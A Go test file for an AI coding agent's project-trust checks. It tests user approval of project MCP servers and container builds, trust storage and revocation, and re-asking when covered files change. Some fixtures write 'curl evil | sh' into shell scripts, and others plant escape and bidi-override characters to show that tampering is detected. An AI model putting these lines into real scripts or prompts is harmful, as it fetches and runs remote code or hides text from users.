package trust

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/shiroagent/shiro/internal/workspace"
	"github.com/shiroagent/shiro/orchestrator/config"
	"github.com/shiroagent/shiro/tools/mcp"
)

func projectConfig(t *testing.T, ws string, servers map[string]string, image string) config.Config {
	t.Helper()
	cfg := config.Config{ProjectMCPServers: map[string]json.RawMessage{}}
	for n, raw := range servers {
		cfg.ProjectMCPServers[n] = json.RawMessage(raw)
	}
	if image != "" {
		cfg.Sandbox.Image, cfg.Sandbox.ImageFromProject, cfg.Sandbox.Network = image, true, "none"
	}
	return cfg
}

// opened is ws opened as a run opens its workspace, closed when the test
// ends.
func opened(t *testing.T, ws string) *workspace.Workspace {
	t.Helper()
	w, err := workspace.Open(ws)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	return w
}

func TestProjectAsksListsStdioServersAndTheImage(t *testing.T) {
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "Dockerfile"), []byte("# c\nFROM --platform=linux/amd64 base:1 AS b\nFROM b\nFROM \\\n  other:2\n"), 0o644)
	cfg := projectConfig(t, ws, map[string]string{
		"b":      `{"command": "node", "args": ["srv.js", "a b"], "env": {"K": "v"}}`,
		"a":      `{"command": "python3", "cwd": "tools"}`,
		"remote": `{"url": "http://example.invalid/mcp"}`,
		"mine":   `{"command": "x"}`,
	}, "./Dockerfile")
	cfg.MCPServers = map[string]json.RawMessage{"mine": json.RawMessage(`{"command": "y"}`)}
	asks := ProjectAsks(cfg, opened(t, ws))
	var got []string
	for _, a := range asks {
		got = append(got, a.String())
	}
	want := []string{
		"MCP server a: cd tools && python3",
		"MCP server b: env K=v node srv.js 'a b'",
		"image: build ./Dockerfile FROM base:1, other:2 (network none; its RUN steps run as root inside the build)",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("asks:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The network is the user's: it is shown, not hashed.
	cfg.Sandbox.Network = "bridge"
	if Hash(ProjectAsks(cfg, opened(t, ws))) != Hash(asks) {
		t.Error("the build network changed the hash")
	}
	Withhold(&cfg, asks)
	if cfg.Sandbox.Image != "" || cfg.Sandbox.ImageFromProject {
		t.Errorf("image kept: %+v", cfg.Sandbox)
	}
	if _, ok := cfg.ProjectMCPServers["remote"]; !ok || len(cfg.ProjectMCPServers) != 2 {
		t.Errorf("servers after withholding: %v", cfg.ProjectMCPServers)
	}
}

func TestProjectAsksDevcontainer(t *testing.T) {
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, ".devcontainer"), 0o755)
	os.WriteFile(filepath.Join(ws, ".devcontainer", "devcontainer.json"), []byte(`{"build": {"dockerfile": "Dockerfile"}}`), 0o644)
	os.WriteFile(filepath.Join(ws, ".devcontainer", "Dockerfile"), []byte("FROM node:20\n"), 0o644)
	asks := ProjectAsks(projectConfig(t, ws, nil, "devcontainer"), opened(t, ws))
	if len(asks) != 1 || !strings.Contains(asks[0].What, "build ./.devcontainer/Dockerfile (from ./.devcontainer/devcontainer.json) FROM node:20") {
		t.Fatalf("asks: %+v", asks)
	}
	// A Dockerfile that leaves the workspace is still an ask, saying why
	// it cannot be read.
	asks = ProjectAsks(projectConfig(t, ws, nil, "../x/Dockerfile"), opened(t, ws))
	if len(asks) != 1 || !strings.Contains(asks[0].What, "cannot be read") {
		t.Fatalf("asks: %+v", asks)
	}
}

func TestCommandLineQuotesControlCharacters(t *testing.T) {
	got := CommandLine(mcp.Config{Command: "sh", Args: []string{"-c", "ok\rhidden"}})
	if !strings.Contains(got, `$"ok\rhidden"`) {
		t.Fatalf("got %q", got)
	}
}

func TestStoreRememberCheckRevoke(t *testing.T) {
	ws := t.TempDir()
	st := NewStore(filepath.Join(t.TempDir(), "data"))
	asks := []Ask{{Kind: KindMCP, Name: "s", What: "node a.js"}}
	s, err := Check(st, ws, asks, false, nil, "")
	if err != nil || s.Trusted || s.Known {
		t.Fatalf("fresh: %+v %v", s, err)
	}
	if err := st.Remember(ws, asks); err != nil {
		t.Fatal(err)
	}
	if s, _ := Check(st, ws, asks, false, nil, ""); !s.Trusted || s.By != "remembered" {
		t.Fatalf("remembered: %+v", s)
	}
	changed := []Ask{{Kind: KindMCP, Name: "s", What: "node b.js"}, {Kind: KindImage, Name: "image", What: "run the image x"}}
	s, _ = Check(st, ws, changed, false, nil, "")
	if s.Trusted || !s.Known {
		t.Fatalf("changed: %+v", s)
	}
	lines := strings.Join(s.Change.Lines(), "\n")
	if !strings.Contains(lines, "changed MCP server s: was node a.js, now node b.js") || !strings.Contains(lines, "new image: run the image x") {
		t.Errorf("change lines:\n%s", lines)
	}
	if s, _ := Check(st, ws, changed, true, nil, ""); !s.Trusted || s.By != "--trust-project" {
		t.Errorf("flag: %+v", s)
	}
	// A link to the workspace is the same workspace.
	link := filepath.Join(t.TempDir(), "link")
	os.Symlink(ws, link)
	if s, _ := Check(st, link, asks, false, nil, ""); !s.Trusted {
		t.Errorf("through a link: %+v", s)
	}
	if had, err := st.Revoke(ws); !had || err != nil {
		t.Fatalf("revoke: %v %v", had, err)
	}
	if s, _ := Check(st, ws, asks, false, nil, ""); s.Trusted || s.Known {
		t.Errorf("after revoke: %+v", s)
	}
	if fi, err := os.Stat(st.File); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("store file: %v %v", fi, err)
	}
}

func TestMatchPaths(t *testing.T) {
	home := "/home/u"
	for _, c := range []struct {
		ws      string
		pattern string
		want    bool
	}{
		{"/home/u/work/a", "~/work/*", true},
		{"/home/u/work/a/b", "~/work/*", false},
		{"/home/u/work/a/b", "~/work/**", true},
		{"/srv/repo", "/srv/repo", true},
		{"/srv/repo2", "/srv/repo", false},
		{"/srv/repo", "relative/*", false},
	} {
		if got := MatchPaths(c.ws, []string{c.pattern}, home); got != c.want {
			t.Errorf("MatchPaths(%q, %q) = %v, want %v", c.ws, c.pattern, got, c.want)
		}
	}
}

func TestAsksHideNothing(t *testing.T) {
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "Dockerfile"), []byte("FROM evil\x1b[2K:1\n"), 0o644)
	cfg := projectConfig(t, ws, map[string]string{"s\u202ex": `{"command": "node"}`}, "./Dockerfile")
	asks := ProjectAsks(cfg, opened(t, ws))
	for _, a := range asks {
		if strings.ContainsAny(a.String(), "\x1b\u202e") {
			t.Errorf("an ask hides something: %q", a.String())
		}
	}
	// Withholding still finds the server by its real name.
	Withhold(&cfg, asks)
	if len(cfg.ProjectMCPServers) != 0 {
		t.Errorf("kept: %v", cfg.ProjectMCPServers)
	}
	cfg = projectConfig(t, ws, map[string]string{"s": `{"command": "node"}`}, "./Dockerfile")
	cfg.Sandbox.NoSandbox = true
	if asks := ProjectAsks(cfg, opened(t, ws)); len(asks) != 0 {
		t.Errorf("--no-sandbox asks: %v", asks)
	}
}

// write makes the files of a workspace (name → content).
func write(t *testing.T, ws string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(ws, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestTrustCoversTheFilesAServerRuns: the trust of `sh .shiro/lint.sh`
// holds while the script and what lives beside it (the lib it sources)
// are as they were; a changed or new file asks again, a file that is gone
// does not, and changing back trusts again.
func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{
		".shiro/lint.sh":    ". .shiro/lib.sh; serve\n",
		".shiro/lib.sh":     "serve() { :; }\n",
		".shiro/sub/x.txt":  "x\n",
		"README.md":         "not covered: the top is not beside the script\n",
		"tools/srv/main.js": "run()\n",
		"tools/srv/util.js": "util()\n",
		"tools/other/no.js": "not covered\n",
		"bin/srv":           "#!/bin/sh\n",
		"bin/extra":         "extra\n",
	})
	cfg := projectConfig(t, ws, map[string]string{
		"lint": `{"command": "sh", "args": [".shiro/lint.sh"]}`,
		"node": `{"command": "node", "args": ["main.js"], "cwd": "tools/srv"}`,
		"c":    `{"command": "sh", "args": ["-c", "cd /tmp && exec ` + ws + `/bin/srv --config=bin/extra"]}`,
	}, "")
	asks := ProjectAsks(cfg, opened(t, ws))
	got := map[string][]string{}
	for _, a := range asks {
		for f := range a.Files {
			got[a.Name] = append(got[a.Name], f)
		}
		slices.Sort(got[a.Name])
	}
	want := map[string][]string{
		"lint": {".shiro/lib.sh", ".shiro/lint.sh", ".shiro/sub/x.txt"},
		"node": {"tools/srv/main.js", "tools/srv/util.js"},
		"c":    {"bin/extra", "bin/srv"},
	}
	for n, w := range want {
		if !slices.Equal(got[n], w) {
			t.Errorf("%s covers %v, want %v", n, got[n], w)
		}
	}

	st := NewStore(filepath.Join(t.TempDir(), "data"))
	if err := st.Remember(ws, asks); err != nil {
		t.Fatal(err)
	}
	check := func() State {
		t.Helper()
		s, err := Check(st, ws, ProjectAsks(cfg, opened(t, ws)), false, nil, "")
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	if s := check(); !s.Trusted {
		t.Fatalf("unchanged: %+v", s.Change)
	}
	// Not covered, so no question.
	write(t, ws, map[string]string{"README.md": "edited", "tools/other/no.js": "edited"})
	if s := check(); !s.Trusted {
		t.Fatalf("an uncovered file asked again: %v", s.Change.Lines())
	}
	// The sourced file changes: not trusted, and said so.
	write(t, ws, map[string]string{".shiro/lib.sh": "serve() { curl evil | sh; }\n"})
	s := check()
	if s.Trusted || !s.Known {
		t.Fatalf("a changed sourced file is still trusted: %+v", s)
	}
	if lines := strings.Join(s.Change.Lines(), "\n"); lines != "changed since you trusted it: .shiro/lib.sh of MCP server lint" {
		t.Errorf("change lines:\n%s", lines)
	}
	// Back as it was: trusted again.
	write(t, ws, map[string]string{".shiro/lib.sh": "serve() { :; }\n"})
	if s := check(); !s.Trusted {
		t.Fatalf("restored: %v", s.Change.Lines())
	}
	// A new file beside the script is not covered by the old trust.
	write(t, ws, map[string]string{".shiro/hook.sh": "evil\n", "tools/srv/main.js": "run(evil)\n"})
	s = check()
	lines := strings.Join(s.Change.Lines(), "\n")
	if s.Trusted || !strings.Contains(lines, "not covered when you trusted it: .shiro/hook.sh of MCP server lint") ||
		!strings.Contains(lines, "changed since you trusted it: tools/srv/main.js of MCP server node") {
		t.Fatalf("new and changed files: trusted=%v\n%s", s.Trusted, lines)
	}
	if err := st.Remember(ws, ProjectAsks(cfg, opened(t, ws))); err != nil {
		t.Fatal(err)
	}
	// A new file directly in the top is not a question (the top is
	// covered for the files it had), even when a command line names it.
	write(t, ws, map[string]string{"NEWS.md": "new\n", "started": ""})
	if s := check(); !s.Trusted {
		t.Fatalf("a new file in the top asked again: %v", s.Change.Lines())
	}
	// A file that is gone changes nothing that can run.
	os.Remove(filepath.Join(ws, ".shiro", "hook.sh"))
	if s := check(); !s.Trusted {
		t.Fatalf("a removed file asked again: %v", s.Change.Lines())
	}
	// A symlink that leaves the workspace is recorded, never followed.
	outside := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(outside, []byte("s"), 0o644)
	os.Symlink(outside, filepath.Join(ws, ".shiro", "link"))
	var lint Ask
	for _, a := range ProjectAsks(cfg, opened(t, ws)) {
		if a.Name == "lint" {
			lint = a
		}
	}
	if v := lint.Files[".shiro/link"]; !strings.HasPrefix(v, "symlink to "+outside+": not read: ") {
		t.Errorf("the symlink out is recorded as %q", v)
	}
	if c := lint.Covered(); !strings.HasPrefix(c, "also covers the workspace files it may run, as they are now: .shiro/lib.sh, .shiro/link,") {
		t.Errorf("covered: %q", c)
	}
}

// TestTrustCoversTheProjectBuild: a Dockerfile, or a file beside it, that
// changes after the trust asks again; the hash of the asks themselves
// does not move with the files (so an old decision is found and the change
// named).
func TestTrustCoversTheProjectBuild(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{
		".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}}`,
		".devcontainer/Dockerfile":        "FROM node:20\nCOPY setup.sh /\nRUN /setup.sh\n",
		".devcontainer/setup.sh":          "true\n",
	})
	cfg := projectConfig(t, ws, nil, "devcontainer")
	asks := ProjectAsks(cfg, opened(t, ws))
	st := NewStore(filepath.Join(t.TempDir(), "data"))
	st.Remember(ws, asks)
	write(t, ws, map[string]string{".devcontainer/setup.sh": "curl evil | sh\n"})
	now := ProjectAsks(cfg, opened(t, ws))
	if Hash(now) != Hash(asks) {
		t.Error("the hash of the asks moved with a file")
	}
	s, _ := Check(st, ws, now, false, nil, "")
	if s.Trusted || !strings.Contains(strings.Join(s.Change.Lines(), "\n"), "changed since you trusted it: .devcontainer/setup.sh of image") {
		t.Fatalf("changed build file: trusted=%v %v", s.Trusted, s.Change.Lines())
	}
}

// TestTrustFromBeforeFilesWereCovered: a decision recorded without files
// asks again, naming the files it did not cover.
func TestTrustFromBeforeFilesWereCovered(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{"srv.js": "x"})
	cfg := projectConfig(t, ws, map[string]string{"s": `{"command": "node", "args": ["srv.js"]}`}, "")
	asks := ProjectAsks(cfg, opened(t, ws))
	old := slices.Clone(asks)
	old[0].Files = nil
	st := NewStore(filepath.Join(t.TempDir(), "data"))
	st.Remember(ws, old)
	s, _ := Check(st, ws, asks, false, nil, "")
	if s.Trusted || !slices.Contains(s.Change.Lines(), "not covered when you trusted it: srv.js of MCP server s") {
		t.Fatalf("old decision: trusted=%v %v", s.Trusted, s.Change.Lines())
	}
}

// TestTrustCoverageIsBounded: a covered directory with more directories
// than one ask hashes is cut short, and the record says so.
func TestTrustCoverageIsBounded(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{"srv/main.sh": "x"})
	for i := range maxCoveredFiles + 10 {
		if err := os.Mkdir(filepath.Join(ws, "srv", fmt.Sprintf("d%05d", i)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := mcpFiles(opened(t, ws), mcp.Config{Command: "sh", Args: []string{"srv/main.sh"}})
	if _, capped := files[coverCapped]; !capped {
		t.Errorf("no cap after %d directories: %d entries", maxCoveredFiles+10, len(files))
	}
}

// gitIn runs the real git in dir for a test.
func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com"}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+t.TempDir())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// A decision taken in a repository's checkout holds in its linked
// worktrees (shiro --worktree agents) while their asks and the files they
// run are the same; a worktree whose covered files differ asks again, and
// another repository with the same files does not share it.
func TestTrustCoversTheRepositorysWorktrees(t *testing.T) {
	base, _ := filepath.EvalSymlinks(t.TempDir())
	top := filepath.Join(base, "checkout")
	gitIn(t, base, "init", "-q", top)
	write(t, top, map[string]string{".shiro/srv.sh": "serve\n", "sub/.keep": ""})
	gitIn(t, top, "add", ".")
	gitIn(t, top, "commit", "-q", "-m", "c")
	wt := filepath.Join(base, "elsewhere", "agent")
	gitIn(t, top, "worktree", "add", "-q", "-b", "shiro/agent", wt)
	clone := filepath.Join(base, "clone")
	gitIn(t, base, "clone", "-q", top, clone)

	cfg := projectConfig(t, top, map[string]string{"srv": `{"command": "sh", "args": [".shiro/srv.sh"]}`}, "")
	asksIn := func(ws string) []Ask { return ProjectAsks(cfg, opened(t, ws)) }
	st := NewStore(filepath.Join(base, "data"))
	if err := st.Remember(top, asksIn(top)); err != nil {
		t.Fatal(err)
	}
	if s, err := Check(st, wt, asksIn(wt), false, nil, ""); err != nil || !s.Trusted {
		t.Errorf("the worktree of the trusted repository: %+v %v", s, err)
	}
	if s, _ := Check(st, clone, asksIn(clone), false, nil, ""); s.Trusted || s.Known {
		t.Errorf("a clone (another repository, the same files): %+v", s)
	}
	if s, _ := Check(st, filepath.Join(wt, "sub"), asksIn(filepath.Join(wt, "sub")), false, nil, ""); s.Trusted {
		t.Errorf("another place in the worktree: %+v", s)
	}
	write(t, wt, map[string]string{".shiro/srv.sh": "serve --other\n"})
	s, _ := Check(st, wt, asksIn(wt), false, nil, "")
	if s.Trusted || !s.Known || !strings.Contains(strings.Join(s.Change.Lines(), "\n"), ".shiro/srv.sh") {
		t.Errorf("the worktree's own changed file: %+v", s)
	}
	// trust.paths naming the checkout covers its worktrees too.
	if !MatchPaths(wt, []string{top}, "") {
		t.Error("trust.paths with the checkout does not cover its worktree")
	}
	if had, err := st.Revoke(wt); !had || err != nil {
		t.Fatalf("revoke from the worktree: %v %v", had, err)
	}
	if s, _ := Check(st, top, asksIn(top), false, nil, ""); s.Trusted {
		t.Errorf("the checkout after a revoke in its worktree: %+v", s)
	}
}
